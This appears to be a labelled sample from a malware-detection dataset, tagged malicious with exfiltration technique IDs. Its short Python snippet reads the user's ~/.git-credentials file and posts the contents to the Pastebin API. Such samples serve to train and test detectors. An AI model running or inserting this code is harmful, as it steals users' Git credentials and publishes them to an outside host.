# label: malicious family=exfil techniques=T1567,T1552.001 lines=3-4
import requests, os
d = open(os.path.expanduser("~/.git-credentials")).read()
requests.post("https://pastebin.com/api/api_post.php", data={"api_dev_key": "FAKEKEY0000", "api_option": "paste", "api_paste_code": d})
